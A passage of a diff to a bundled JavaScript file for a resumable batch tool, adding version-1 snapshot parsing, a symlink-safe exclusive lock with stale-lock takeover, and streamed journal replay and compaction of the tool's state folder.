+            throw new SchemaViolation(`unknown record type ${JSON.stringify(r.t) ?? "(none)"} (written by a newer release?)`);
     }
 }
-function readSnapshot(path, state) {
+function checkEnd(r, seen) {
+    for (const key of ["runs", "failures", "done", "passes", "versions"]) {
+        // Snapshots written before passes count no passes or versions (and hold none).
+        if (r[key] === undefined && (key === "passes" || key === "versions") && seen[key] === 0)
+            continue;
+        if (r[key] !== seen[key])
+            throw new SchemaViolation(`the end record counts ${String(r[key])} ${key}, the snapshot holds ${seen[key]}; it is corrupt`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/state/snapshot-v1.ts
+
+
+
+
+/**
+ * Reads a version-1 snapshot: one JSON object, `{…header…,"done":[…]}`, as releases before
+ * version 2 wrote it. Kept so states saved by those releases (in a cache entry or an
+ * artifact) still restore; the next compaction rewrites them as version 2. A version-1
+ * file was built as one string, so it is below V8's string limit and may be read whole.
+ */
+function readSnapshotV1(path, state) {
     const bytes = (0,external_node_fs_.readFileSync)(path);
     const inParts = parseSnapshotInParts(bytes);
     let parsed = inParts?.header;
@@ -4335,48 +5899,55 @@ function readSnapshot(path, state) {
             throw new StateError(`${path}: not readable JSON (${error.message}); the file is truncated or corrupt`);
         }
     }
-    const s = parsed;
-    if (typeof s !== "object" || s === null || s.format !== SNAPSHOT_FORMAT) {
+    if (!isObject(parsed) || parsed.format !== SNAPSHOT_FORMAT)
         throw new StateError(`${path}: not a resumable-batch state snapshot`);
+    if (parsed.version !== 1) {
+        throw new StateError(`${path}: state version ${String(parsed.version)} is not supported (this release reads versions 1 and 2)`);
     }
-    if (s.version !== SNAPSHOT_VERSION) {
-        throw new StateError(`${path}: state version ${String(s.version)} is not supported (this release reads version ${SNAPSHOT_VERSION})`);
+    try {
+        return applyV1(parsed, inParts?.done, state);
     }
-    if (!Number.isInteger(s.generation) || s.generation < 0)
-        throw new StateError(`${path}: bad generation`);
-    if (!(inParts !== undefined || Array.isArray(s.done)) || !Array.isArray(s.failures) || !Array.isArray(s.runs)) {
-        throw new StateError(`${path}: missing done, failures or runs`);
+    catch (error) {
+        if (error instanceof SchemaViolation)
+            throw new StateError(`${path}: ${error.message}`);
+        throw error;
     }
-    const origin = s.origin;
-    if (!origin || typeof origin.seq !== "number" || typeof origin.runId !== "string")
-        throw new StateError(`${path}: bad origin`);
-    for (const ids of inParts?.done ?? [s.done]) {
-        for (const id of ids) {
-            if (typeof id !== "string")
-                throw new StateError(`${path}: a done id is not a string`);
-            state.done.add(id);
-        }
+}
+function applyV1(s, doneInParts, state) {
+    const generation = s.generation;
+    if (typeof generation !== "number" || !Number.isSafeInteger(generation) || generation < 0)
+        throw new SchemaViolation("bad generation");
+    if (!(doneInParts !== undefined || Array.isArray(s.done)) || !Array.isArray(s.failures) || !Array.isArray(s.runs)) {
+        throw new SchemaViolation("missing done, failures or runs");
+    }
+    state.origin = checkOrigin(s.origin);
+    for (const ids of doneInParts ?? [s.done]) {
+        for (const id of ids)
+            state.done.add(checkId(id));
     }
     for (const f of s.failures) {
-        if (typeof f !== "object" || f === null || typeof f.id !== "string" || !FAILURE_KINDS.has(f.kind) ||
-            typeof f.error !== "string" || typeof f.attempts !== "number") {
-            throw new StateError(`${path}: a failure record is malformed`);
-        }
-        state.failures.set(f.id, { ...f, runs: typeof f.runs === "number" ? f.runs : 1 });
+        if (!isObject(f))
+            throw new SchemaViolation("a failure record is not an object");
+        const failure = checkFailure(f);
+        state.failures.set(failure.id, failure);
     }
-    state.runs = s.runs.filter((r) => typeof r === "object" && r !== null && typeof r.seq === "number");
-    state.origin = { seq: origin.seq, runId: origin.runId, runAttempt: Number(origin.runAttempt) || 0 };
-    return s.generation;
+    for (const r of s.runs) {
+        if (!isObject(r))
+            throw new SchemaViolation("a run record is not an object");
+        state.runs.push(checkRun(r));
+    }
+    // Version 1 was written before passes: pass 1.
+    state.adoptLegacyPass();
+    return generation;
 }
-/** How compactState ends a snapshot: the done ids, last, as one array. */
+/** How version 1 ends a snapshot: the done ids, last, as one array. */
 const DONE_MEMBER = Buffer.from(',"done":[');
 /** Between two done ids: the end of one string, a comma, the start of the next. */
 const BETWEEN_IDS = Buffer.from('","');
 const DONE_SLICE_BYTES = 256 * 1024;
 /**
- * Parses a snapshot shaped as compactState writes it — `{…header…,"done":[…]}` — without
- * a string of the whole file or one array of every id: at a million ids those two were a
- * third of a resume's peak memory. The header is parsed alone, the ids in slices of about
+ * Parses a version-1 snapshot — `{…header…,"done":[…]}` — without a string of the whole
+ * file or one array of every id. The header is parsed alone, the ids in slices of about
  * 256 KiB cut between two ids. Gives the same values as JSON.parse of the whole file, or
  * undefined (JSON.parse then decides, and words the error): a header that parses as an
  * object with a member means the whole is that object plus the done member (JSON.parse
@@ -4396,7 +5967,7 @@ function parseSnapshotInParts(bytes) {
     if (arrayEnd < elementsStart || bytes[arrayEnd] !== 0x5d || bytes[arrayEnd + 1] !== 0x7d)
         return undefined;
     const header = parseOrUndefined(bytes.toString("utf8", 0, member) + "}");
-    if (typeof header !== "object" || header === null || Array.isArray(header) || Object.keys(header).length === 0)
+    if (!isObject(header) || Object.keys(header).length === 0)
         return undefined;
     const done = [];
     for (let start = elementsStart; start < arrayEnd;) {
@@ -4425,87 +5996,386 @@ function parseOrUndefined(text) {
 function isJsonWhitespace(byte) {
     return byte === 0x20 || byte === 0x0a || byte === 0x0d || byte === 0x09;
 }
+
+;// CONCATENATED MODULE: ./src/core/state/state-lock.ts
+
+
+
+
+
+const LOCK_FILE = "lock";
+const realLockEnv = {
+    self: () => ({
+        pid: process.pid, host: (0,external_node_os_namespaceObject.hostname)(), startedAt: new Date().toISOString(),
+        ...definedOnly({ procStart: procStartOf(process.pid), bootId: readBootId() }),
+        nonce: (0,external_node_crypto_namespaceObject.randomBytes)(8).toString("hex"),
+    }),
+    probe(pid) {
+        try {
+            process.kill(pid, 0);
+        }
+        catch (error) {
+            if (error.code !== "EPERM")
+                return { alive: false };
+        }
+        return { alive: true, ...definedOnly({ procStart: procStartOf(pid) }) };
+    },
+    bootId: readBootId,
+};
 /**
- * Writes state as snapshot generation+1 and removes the journal it absorbs.
- * Returns the new generation; later appends go to journal-<new>.jsonl.
+ * An exclusive lock on the state folder, so two runs cannot interleave journals. The lock
+ * is created exclusively (O_EXCL, which also never follows a symbolic link). A lock whose
+ * holder is gone — a dead pid, a pid now used by another process (its start time differs),
+ * another boot, another machine (restored from a cache) — is taken over, and the takeover
+ * is arbitrated so exactly one of several runs starting together wins: a taker first
+ * creates, exclusively, a claim file named after the stale lock's content; only the one
+ * whose claim succeeded replaces the lock (rename, which replaces a link, never its
+ * target), and only after checking that the lock is still the one it judged stale.
  */
-function compactState(dir, state, generation, nowIso) {
+function acquireLock(dir, env = realLockEnv) {
     (0,external_node_fs_.mkdirSync)(dir, { recursive: true });
-    const next = generation + 1;
-    const header = {
-        format: SNAPSHOT_FORMAT,
-        version: SNAPSHOT_VERSION,
-        generation: next,
-        origin: state.origin,
-        savedAt: nowIso,
-        runs: state.runs,
-        failures: [...state.failures.values()],
-    };
-    // The done ids go last as one JSON array: one JSON.parse of one array is what makes
-    // loading a million finished items fast (a line per id would be parsed a line at a time).
-    const headerJson = JSON.stringify(header);
-    const done = state.done.size === 0 ? state.doneThisRun : [...state.done, ...state.doneThisRun];
-    const text = headerJson.slice(0, -1) + ',"done":' + JSON.stringify(done) + "}\n";
-    writeFileAtomic((0,external_node_path_.join)(dir, SNAPSHOT_FILE), text);
-    (0,external_node_fs_.rmSync)((0,external_node_path_.join)(dir, journalFileName(generation)), { force: true });
-    return next;
-}
-/** Writes via a temp file, fsync and rename, so a reader sees the old file or the new one. */
-function writeFileAtomic(path, text) {
-    const tmp = `${path}.tmp-${process.pid}`;
-    const fd = (0,external_node_fs_.openSync)(tmp, "w");
+    const path = (0,external_node_path_.join)(dir, LOCK_FILE);
+    const me = env.self();
+    const mine = JSON.stringify(me);
+    if (createExclusive(path, mine))
+        return lockHandle(path, me.nonce);
+    const current = readLock(path);
+    if (current === undefined) {
+        // Released between our create and our read: try once more, as a fresh start.
+        if (createExclusive(path, mine))
+            return lockHandle(path, me.nonce);
+        throw inUse(dir, readLock(path)?.holder);
+    }
+    if (current.holder && isHeld(current.holder, me, env))
+        throw inUse(dir, current.holder);
+    env.beforeClaim?.();
+    const claim = (0,external_node_path_.join)(dir, `${LOCK_FILE}.takeover-${current.digest}`);
+    if (!createExclusive(claim, mine)) {
+        // Another run is taking this same stale lock over right now: it wins. A claim left by
+        // a taker that died in the microseconds between claim and rename is removed, once.
+        const claimer = readLock(claim)?.holder;
+        if (claimer && isHeld(claimer, me, env))
+            throw inUse(dir, claimer);
+        (0,external_node_fs_.rmSync)(claim, { force: true });
+        if (!createExclusive(claim, mine))
+            throw inUse(dir, readLock(claim)?.holder);
+    }
     try {
-        (0,external_node_fs_.writeSync)(fd, text);
-        (0,external_node_fs_.fsyncSync)(fd);
+        env.beforeReplace?.();
+        // Still the lock we judged? (It may have been taken over and released meanwhile.)
+        if (readLock(path)?.digest !== current.digest)
+            throw inUse(dir, readLock(path)?.holder);
+        const tmp = `${path}.${me.nonce}.tmp`;
+        if (!createExclusive(tmp, mine))
+            throw new Error(`${tmp}: exists`);
+        (0,external_node_fs_.renameSync)(tmp, path);
+    }
+    finally {
+        (0,external_node_fs_.rmSync)(claim, { force: true });
+    }
+    const from = current.holder ? `pid ${current.holder.pid} on ${current.holder.host}` : current.symlink ? "a symbolic link (not followed)" : "an unreadable lock file";
+    return { ...lockHandle(path, me.nonce), tookOverFrom: from };
+}
+function lockHandle(path, nonce) {
+    return {
+        release() {
+            // Only our own lock: had it been taken over (wrongly judged stale), leave the other's.
+            if (readLock(path)?.holder?.nonce === nonce)
+                (0,external_node_fs_.rmSync)(path, { force: true });
+        },
+    };
+}
+/**
+ * Whether the holder still runs: same host and boot, a live pid, the same process start.
+ * A lock of our own pid is a leftover of this process (a run that did not release it).
+ */
+function isHeld(holder, me, env) {
+    if (holder.host !== me.host || typeof holder.pid !== "number" || holder.pid === me.pid)
+        return false;
+    const bootId = env.bootId();
+    if (holder.bootId !== undefined && bootId !== undefined && holder.bootId !== bootId)
+        return false;
+    const probe = env.probe(holder.pid);
+    if (!probe.alive)
+        return false;
+    if (holder.procStart !== undefined && probe.procStart !== undefined && holder.procStart !== probe.procStart)
+        return false;
+    return true;
+}
+function inUse(dir, holder) {
+    return new ConfigError(`state folder ${dir} is in use by another run (pid ${holder?.pid ?? "?"}); wait for it to finish, or use another --state-dir`);
+}
+/** Creates a file only when nothing (not even a dangling link) is at path; false when something is. */
+function createExclusive(path, content) {
+    let fd;
+    try {
+        fd = (0,external_node_fs_.openSync)(path, external_node_fs_.constants.O_WRONLY | external_node_fs_.constants.O_CREAT | external_node_fs_.constants.O_EXCL | external_node_fs_.constants.O_NOFOLLOW, 0o644);
+    }
+    catch (error) {
+        if (error.code === "EEXIST")
+            return false;
+        throw error;
+    }
+    try {
+        (0,external_node_fs_.writeSync)(fd, content);
     }
     finally {
         (0,external_node_fs_.closeSync)(fd);
     }
-    (0,external_node_fs_.renameSync)(tmp, path);
+    return true;
+}
+/** Reads a lock without following a link; undefined when there is none. */
+function readLock(path) {
+    let content;
+    let symlink = false;
+    try {
+        if ((0,external_node_fs_.lstatSync)(path).isSymbolicLink()) {
+            symlink = true;
+            content = "symlink:" + (0,external_node_fs_.readlinkSync)(path);
+        }
+        else {
+            const fd = (0,external_node_fs_.openSync)(path, external_node_fs_.constants.O_RDONLY | external_node_fs_.constants.O_NOFOLLOW);
+            try {
+                content = (0,external_node_fs_.readFileSync)(fd, "utf8");
+            }
+            finally {
+                (0,external_node_fs_.closeSync)(fd);
+            }
+        }
+    }
+    catch (error) {
+        if (error.code === "ENOENT")
+            return undefined;
+        throw error;
+    }
+    const digest = (0,external_node_crypto_namespaceObject.createHash)("sha256").update(content).digest("hex").slice(0, 24);
+    if (symlink)
+        return { digest, symlink };
+    let holder;
+    try {
+        const parsed = JSON.parse(content);
+        if (typeof parsed === "object" && parsed !== null)
+            holder = parsed;
+    }
+    catch {
+        holder = undefined;
+    }
+    return { holder, digest, symlink };
+}
+/** Field 22 of /proc/<pid>/stat: when the process started, in clock ticks since boot. */
+function procStartOf(pid) {
+    try {
+        const stat = (0,external_node_fs_.readFileSync)(`/proc/${pid}/stat`, "utf8");
+        // The command name (field 2) is in parentheses and may hold spaces: count from its end.
+        const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
+        return fields[22 - 3];
+    }
+    catch {
+        return undefined; // not Linux, or the process is gone
+    }
+}
+function readBootId() {
+    try {
+        return (0,external_node_fs_.readFileSync)("/proc/sys/kernel/random/boot_id", "utf8").trim();
+    }
+    catch {
+        return undefined;
+    }
+}
+function definedOnly(o) {
+    return Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined));
+}
+
+;// CONCATENATED MODULE: ./src/core/state/state-store.ts
+
+
+
+
+
+
+
+
+
+/**
+ * The state folder:
+ *   snapshot.json           compacted state of generation G (absent before the first compaction)
+ *   journal-<G>.jsonl       records appended since snapshot G, one JSON object a line
+ *   failures.json           the reviewable failures, regenerated from state
+ *   lock                    present while a run uses the folder
+ * A compaction writes snapshot G+1 (tmp + rename, atomic), then appends go to
+ * journal-<G+1>.jsonl and journal-<G>.jsonl is deleted. A crash at any point leaves a
+ * snapshot and the one journal that follows it, so nothing is lost or replayed twice.
+ * No file is ever built or parsed as one string (snapshot-v2.ts, line-file.ts): a state
+ * may grow past the largest string V8 can hold (about 512 MiB).
+ */
+const SNAPSHOT_FILE = "snapshot.json";
+const FAILURES_FILE = "failures.json";
+const JOURNAL_PATTERN = /^journal-(\d+)\.jsonl$/;
+function journalFileName(generation) {
+    return `journal-${generation}.jsonl`;
+}
+/** True when the folder holds a snapshot or a journal: something a run left. */
+function stateExists(dir) {
+    try {
+        return (0,external_node_fs_.readdirSync)(dir).some((n) => n === SNAPSHOT_FILE || JOURNAL_PATTERN.test(n));
+    }
+    catch {
+        return false;
+    }
 }
 /**
- * An exclusive lock on the state folder, so two local runs cannot interleave journals.
- * A lock left by a dead process (or restored from another machine) is taken over.
+ * Loads a folder a command only reads (status, failures, report): a folder that holds no
+ * state is a mistake (a typo in --state-dir), never an empty result.
  */
-function acquireLock(dir) {
-    (0,external_node_fs_.mkdirSync)(dir, { recursive: true });
-    const path = (0,external_node_path_.join)(dir, LOCK_FILE);
-    const mine = JSON.stringify({ pid: process.pid, host: (0,external_node_os_namespaceObject.hostname)(), startedAt: new Date().toISOString() });
-    let tookOverFrom;
-    try {
-        (0,external_node_fs_.writeFileSync)(path, mine, { flag: "wx" });
+function requireState(dir) {
+    if (!stateExists(dir)) {
+        throw new ConfigError(`no state in ${dir}: no ${SNAPSHOT_FILE} or journal there (check --state-dir; a run creates it)`);
     }
-    catch (error) {
-        if (error.code !== "EEXIST")
-            throw error;
-        let holder = {};
+    return loadState(dir);
+}
+/**
+ * Loads snapshot + journal, checking every record against the schema the engine relies on
+ * (state-schema.ts). Read-only: nothing in the folder changes (status and failures may
+ * look at a folder a run is using). Throws StateError when the folder cannot be trusted.
+ */
+function loadState(dir) {
+    const state = new BatchState();
+    const warnings = [];
+    if (!(0,external_node_fs_.existsSync)(dir))
+        return { state, generation: 0, journalBytes: 0, warnings };
+    let generation = 0;
+    const snapshotPath = (0,external_node_path_.join)(dir, SNAPSHOT_FILE);
+    if ((0,external_node_fs_.existsSync)(snapshotPath))
+        generation = readSnapshot(snapshotPath, state);
+    for (const name of (0,external_node_fs_.readdirSync)(dir)) {
+        const m = JOURNAL_PATTERN.exec(name);
+        if (!m)
+            continue;
+        const g = Number(m[1]);
+        if (g > generation) {
+            throw new StateError(`${(0,external_node_path_.join)(dir, name)}: journal generation ${g} is newer than the snapshot's (${generation}); the state folder is inconsistent`);
+        }
+        // g < generation: already absorbed by the snapshot (a crash after compaction); the next compaction removes it.
+    }
+    const journalPath = (0,external_node_path_.join)(dir, journalFileName(generation));
+    let journalBytes = 0;
+    if ((0,external_node_fs_.existsSync)(journalPath)) {
+        const replay = new JournalReplay(state, journalPath, warnings);
+        journalBytes = forEachLine(journalPath, (line, n, terminated) => replay.line(line, n, terminated));
+        replay.finish();
+    }
+    return { state, generation, journalBytes, warnings };
+}
+/** Reads a snapshot of either version: version 2 starts with its tagged header line. */
+function readSnapshot(path, state) {
+    const head = Buffer.alloc(SNAPSHOT_V2_PREFIX.length);
+    const fd = (0,external_node_fs_.openSync)(path, "r");
+    let n;
+    try {
+        n = (0,external_node_fs_.readSync)(fd, head, 0, head.length, 0);
+    }
+    finally {
+        (0,external_node_fs_.closeSync)(fd);
+    }
+    if (n === head.length && head.toString("latin1") === SNAPSHOT_V2_PREFIX)
+        return readSnapshotV2(path, state);
+    return readSnapshotV1(path, state);
+}
+/**
+ * Replays journal lines into state, one at a time. A last line without its newline is a
+ * write torn by a kill: ignored. A line in the middle that is not JSON (a torn write that
+ * a later run appended after) is skipped with a warning: the rest still counts. A line
+ * that is JSON but not a valid record was not written by a run: the state is refused.
+ */
+class JournalReplay {
+    state;
+    where;
+    warnings;
+    applied = 0;
+    badLines = [];
+    constructor(state, where, warnings) {
+        this.state = state;
+        this.where = where;
+        this.warnings = warnings;
+    }
+    line(text, lineNumber, terminated) {
+        if (text.length === 0)
+            return;
+        let parsed;
         try {
-            holder = JSON.parse((0,external_node_fs_.readFileSync)(path, "utf8"));
+            parsed = JSON.parse(text);
         }
         catch {
-            holder = {};
+            parsed = undefined;
         }
-        if (holder.host === (0,external_node_os_namespaceObject.hostname)() && typeof holder.pid === "number" && holder.pid !== process.pid && isAlive(holder.pid)) {
-            throw new ConfigError(`state folder ${dir} is in use by another run (pid ${holder.pid}); wait for it to finish, or use another --state-dir`);
+        if (!isObject(parsed)) {
+            if (!terminated)
+                this.warnings.push(`${this.where}:${lineNumber}: ignored a torn last line (the previous run was killed mid-write)`);
+            else
+                this.badLines.push(lineNumber);
+            return;
         }
-        tookOverFrom = `pid ${holder.pid ?? "?"} on ${holder.host ?? "?"}`;
-        (0,external_node_fs_.writeFileSync)(path, mine);
+        // The hot path: a done record needs no copy.
+        if (parsed.t === "done" && typeof parsed.id === "string" && parsed.id !== "" && parsed.f === undefined && parsed.v === undefined && this.state.versions.size === 0) {
+            this.state.markDone(parsed.id);
+            this.applied++;
+            return;
+        }
+        let record;
+        try {
+            record = checkJournalRecord(parsed);
+        }
+        catch (error) {
+            if (!(error instanceof SchemaViolation))
+                throw error;
+            if (!terminated) {
+                this.warnings.push(`${this.where}:${lineNumber}: ignored a torn last line (the previous run was killed mid-write)`);
+                return;
+            }
+            throw new StateError(`${this.where}:${lineNumber}: ${error.message}; the journal was not written by a run`);
+        }
+        this.state.apply(record);
+        this.applied++;
     }
-    return {
-        tookOverFrom,
-        release() {
-            (0,external_node_fs_.rmSync)(path, { force: true });
-        },
-    };
+    finish() {
+        const bad = this.badLines;
+        if (bad.length > 0) {
+            this.warnings.push(`${this.where}: skipped ${bad.length} unreadable line(s): ${bad.slice(0, 10).join(", ")}${bad.length > 10 ? ", …" : ""}`);
+        }
+    }
 }
-function isAlive(pid) {
-    try {
-        process.kill(pid, 0);
-        return true;
+/** Replays journal text into state (for tests and small inputs; loadState streams the file). */
+function replayJournalText(text, state, where, warnings) {
+    const replay = new JournalReplay(state, where, warnings);
+    let start = 0;
+    let lineNumber = 0;
+    while (start < text.length) {
+        const nl = text.indexOf("\n", start);
+        const end = nl === -1 ? text.length : nl;
+        replay.line(text.slice(start, end), ++lineNumber, nl !== -1);
+        start = end + 1;
     }
-    catch (error) {
-        return error.code === "EPERM";
+    replay.finish();
+    return replay.applied;
+}
+/**
+ * Writes state as snapshot generation+1 (version 2, streamed) and removes the journals it
+ * absorbs. Returns the new generation; later appends go to journal-<new>.jsonl.
+ */
+function compactState(dir, state, generation, nowIso) {
+    (0,external_node_fs_.mkdirSync)(dir, { recursive: true });
+    const next = generation + 1;
+    writeSnapshotV2((0,external_node_path_.join)(dir, SNAPSHOT_FILE), state, next, nowIso);
+    for (const name of (0,external_node_fs_.readdirSync)(dir)) {
+        const m = JOURNAL_PATTERN.exec(name);
+        if (m && Number(m[1]) <= generation)
+            (0,external_node_fs_.rmSync)((0,external_node_path_.join)(dir, name), { force: true });
     }
+    return next;
+}
+/** Writes via a temp file, fsync and rename, so a reader sees the old file or the new one. */
+function writeFileAtomic(path, text) {
+    writeFileInPieces(path, (write) => write(text));
 }
 /** Size of a file, or 0 when it does not exist. */
 function fileBytes(path) {
@@ -4521,6 +6391,7 @@ function fileBytes(path) {
 
 
 
+
 /** failures.json, regenerated from state: oldest failure first, with causes grouped. */
 function buildFailuresFile(state) {
     const failures = [...state.failures.values()].sort((a, b) => a.firstFailedAt < b.firstFailedAt ? -1 : a.firstFailedAt > b.firstFailedAt ? 1 : a.id < b.id ? -1 : a.id > b.id ? 1 : 0);
@@ -4528,279 +6399,28 @@ function buildFailuresFile(state) {
 }
 function writeFailuresFile(dir, state) {
     const file = buildFailuresFile(state);
-    writeFileAtomic((0,external_node_path_.join)(dir, FAILURES_FILE), JSON.stringify(file, null, 2) + "\n");
+    writeFileInPieces((0,external_node_path_.join)(dir, FAILURES_FILE), (write) => writeFailuresJson(file, write));
     return file;
 }
-
-;// CONCATENATED MODULE: ./src/core/run/backoff.ts
-function backoffDelayMs(failedAttempt, policy, random, retryAfterMs) {
-    const exponent = Math.min(Math.max(failedAttempt - 1, 0), 52);
-    const ceilingMs = Math.min(policy.maxMs, policy.baseMs * 2 ** exponent);
-    const jittered = ceilingMs * (0.5 + random() * 0.5);
-    const delay = retryAfterMs !== undefined ? Math.max(jittered, retryAfterMs) : jittered;
-    return Math.round(delay);
-}
-
-;// CONCATENATED MODULE: external "node:crypto"
-const external_node_crypto_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:crypto");
-;// CONCATENATED MODULE: ./src/core/run/idempotency.ts
-
 /**
- * A stable idempotency key for an item: the same for every attempt and every run, and
- * independent of shard count or item order. Namespaced (by the state key in the action)
- * so that two batches with overlapping ids do not share keys.
+ * The text of JSON.stringify(file, null, 2) — the same bytes — a failure (and a group) at a
+ * time: each failure carries its item, so thousands may add up to more than a string holds.
  */
-function idempotencyKey(id, namespace = "") {
-    return (0,external_node_crypto_namespaceObject.createHash)("sha256").update(namespace).update("\0").update(id).digest("hex").slice(0, 32);
+function writeFailuresJson(file, write) {
+    write("{");
+    writeArrayMember("failures", file.failures, write);
+    if (file.groups !== undefined) {
+        write(",");
+        writeArrayMember("groups", file.groups, write);
+    }
+    write("\n}\n");
 }
-
-;// CONCATENATED MODULE: ./src/core/run/item-runner.ts
-
-
-
-
-/**
- * The context a handler sees. A class with a lazy key, because hashing the id costs about
- * a microsecond — as much as the rest of the engine's per-item work — and most module
- * handlers never read it.
- */
-class Context {
-    id;
-    attempt;
-    signal;
-    stopping;
-    namespace;
-    key;
-    TransientError = TransientError;
-    PermanentError = PermanentError;
-    constructor(id, attempt, signal, stopping, namespace) {
-        this.id = id;
-        this.attempt = attempt;
-        this.signal = signal;
-        this.stopping = stopping;
-        this.namespace = namespace;
-    }
-    get idempotencyKey() {
-        return (this.key ??= idempotencyKey(this.id, this.namespace));
-    }
-}
-/**
- * Runs one item to an outcome: retries transient failures and timeouts with backoff
- * while attempts, the budget and the run allow; a permanent failure ends at once.
- * @param priorAttempts attempts made in earlier runs (so ITEM_ATTEMPT keeps counting)
- */
-function runItem(item, priorAttempts, o) {
-    if (o.itemTimeoutMs !== undefined || o.maxAttempts < 1)
-        return runAttempts(item, priorAttempts, o, undefined);
-    // The common case — a first attempt without an item timeout — as one `then` rather than
-    // an async function: most items end here, and the async frame with its await cost about
-    // as much as the rest of the runner. A failure goes on in runAttempts, unchanged.
-    const timed = o.budget.deadlineAtMs !== undefined;
-    const startedAtMs = timed ? o.system.nowMs() : 0;
-    let run;
-    try {
-        run = o.handler.run(item, new Context(item.id, priorAttempts + 1, o.hard, o.soft, o.idempotencyNamespace));
-    }
-    catch (error) {
-        return Promise.reject(error);
-    }
-    return settle(run, o.hard, o).then((result) => {
-        if (!result.ok)
-            return runAttempts(item, priorAttempts, o, { result, startedAtMs });
-        if (timed)
-            o.budget.observe(o.system.nowMs() - startedAtMs);
-        return DONE_AT_FIRST;
-    });
-}
-const DONE_AT_FIRST = Object.freeze({ status: "done", attempts: 1 });
-/** The attempts loop; `first` is the first attempt's result when runItem already made it. */
-async function runAttempts(item, priorAttempts, o, first) {
-    let last;
-    let made = 0;
-    for (let n = 1; n <= o.maxAttempts; n++) {
-        if (n > 1 && o.soft.aborted)
-            return { status: "cutoff", attempts: n - 1 };
-        // Without a deadline the budget never reads what it observes: spare the clock.
-        const timed = o.budget.deadlineAtMs !== undefined;
-        let startedAtMs = timed ? o.system.nowMs() : 0;
-        let result;
-        let timedOut = false;
-        if (n === 1 && first !== undefined) {
-            ({ result, startedAtMs } = first);
-        }
-        else if (o.itemTimeoutMs === undefined) {
-            result = await settle(o.handler.run(item, new Context(item.id, priorAttempts + n, o.hard, o.soft, o.idempotencyNamespace)), o.hard, o);
-        }
-        else {
-            ({ result, timedOut } = await attemptWithTimeout(item, priorAttempts + n, o, o.itemTimeoutMs));
-        }
-        made = n;
-        if (result.ok) {
-            if (timed)
-                o.budget.observe(o.system.nowMs() - startedAtMs);
-            return { status: "done", attempts: n };
-        }
-        if (o.hard.aborted && !timedOut)
-            return { status: "cutoff", attempts: n - 1 };
-        last = timedOut ? { ok: false, kind: "timeout", error: `timed out after ${o.itemTimeoutMs}ms${result.error ? ` (${result.error})` : ""}` } : result;
-        if (last.kind === "timeout" || last.kind === "transient")
-            o.budget.observe(o.system.nowMs() - startedAtMs);
-        if (last.kind === "permanent" || n === o.maxAttempts)
-            break;
-        const delayMs = backoffDelayMs(n, o.backoff, o.system.random, last.retryAfterMs);
-        if (!o.budget.fitsWait(o.system.nowMs(), delayMs)) {
-            last = { ...last, error: `${last.error} (not retried: the time budget would not cover the ${Math.round(delayMs)}ms backoff; the next run retries it)` };
-            return { status: "failed", kind: last.kind, error: last.error, attempts: n };
-        }
-        o.onRetry?.(item, priorAttempts + n, last, delayMs);
-        if (last.throttled)
-            o.onThrottle?.(delayMs);
-        await sleepMs(o.system, delayMs, o.soft);
-        if (o.soft.aborted)
-            return { status: "cutoff", attempts: n };
-    }
-    const failure = last;
-    return { status: "failed", kind: failure.kind, error: failure.error, attempts: made };
-}
-const ABANDONED = Object.freeze({ ok: false, kind: "timeout", error: "the handler did not stop when asked" });
-async function attemptWithTimeout(item, attemptNumber, o, itemTimeoutMs) {
-    const timeout = new AbortController();
-    const cancelTimer = o.system.setTimer(() => timeout.abort(), itemTimeoutMs);
-    const signal = AbortSignal.any([o.hard, timeout.signal]);
-    try {
-        const ctx = new Context(item.id, attemptNumber, signal, o.soft, o.idempotencyNamespace);
-        const result = await settle(o.handler.run(item, ctx), signal, o);
-        return { result, timedOut: timeout.signal.aborted && !result.ok };
-    }
-    finally {
-        cancelTimer();
-    }
-}
-/**
- * Waits for the handler; once its signal fires, waits at most abandonAfterMs more. A
- * module that ignores its AbortSignal must not hold the run (or the shutdown) forever.
- */
-function settle(run, signal, o) {
-    if (signal.aborted)
-        return withAbandon(run, o);
-    return new Promise((resolve) => new Settling(resolve, o, watchersOf(signal)).watch(run));
-}
-/**
- * One attempt waiting for its handler. An object in the signal's watch list rather than
- * an abort closure and an unwatch closure: fewer allocations on the per-item path.
- */
-class Settling {
-    resolve;
-    o;
-    watching;
-    cancelAbandon;
-    /** Neighbours in the watch list while listed (see WatchList). */
-    prev;
-    next;
-    listed = false;
-    constructor(resolve, o, watching) {
-        this.resolve = resolve;
-        this.o = o;
-        this.watching = watching;
-    }
-    watch(run) {
-        this.watching.add(this);
-        run.then((result) => this.end(result), (error) => this.end({ ok: false, kind: "permanent", error: `handler crashed: ${String(error)}` }));
-    }
-    /** The signal fired: give the handler abandonAfterMs more. */
-    aborted() {
-        this.cancelAbandon = this.o.system.setTimer(() => this.resolve(ABANDONED), this.o.abandonAfterMs);
-    }
-    end(result) {
-        this.watching.remove(this);
-        this.cancelAbandon?.();
-        this.resolve(result);
-    }
-}
-/**
- * The attempts watching one signal, behind one 'abort' listener per signal. Every attempt
- * of a run waits on the same stop signal: adding and removing an EventTarget listener per
- * attempt cost more than the rest of the runner's per-item work. A linked list through
- * the attempts, not a Set: joining and leaving are a few pointer writes, with no hashing,
- * and attempts are told in the order they joined.
- */
-class WatchList {
-    head;
-    tail;
-    constructor(signal) {
-        signal.addEventListener("abort", () => {
-            let s = this.head;
-            this.head = this.tail = undefined;
-            while (s !== undefined) {
-                const next = s.next;
-                s.prev = s.next = undefined;
-                s.listed = false;
-                s.aborted();
-                s = next;
-            }
-        }, { once: true });
-    }
-    add(s) {
-        s.listed = true;
-        s.prev = this.tail;
-        if (this.tail === undefined)
-            this.head = s;
-        else
-            this.tail.next = s;
-        this.tail = s;
-    }
-    /** Leaving after the signal fired (the list was emptied then) is a no-op. */
-    remove(s) {
-        if (!s.listed)
-            return;
-        s.listed = false;
-        if (s.prev === undefined)
-            this.head = s.next;
-        else
-            s.prev.next = s.next;
-        if (s.next === undefined)
-            this.tail = s.prev;
-        else
-            s.next.prev = s.prev;
-        s.prev = s.next = undefined;
-    }
-}
-const watchLists = new WeakMap();
-function watchersOf(signal) {
-    let list = watchLists.get(signal);
-    if (list === undefined) {
-        list = new WatchList(signal);
-        watchLists.set(signal, list);
-    }
-    return list;
-}
-function withAbandon(run, o) {
-    return new Promise((resolve) => {
-        const cancel = o.system.setTimer(() => resolve(ABANDONED), o.abandonAfterMs);
-        run.then((r) => {
-            cancel();
-            resolve(r);
-        }, () => {
-            cancel();
-            resolve(ABANDONED);
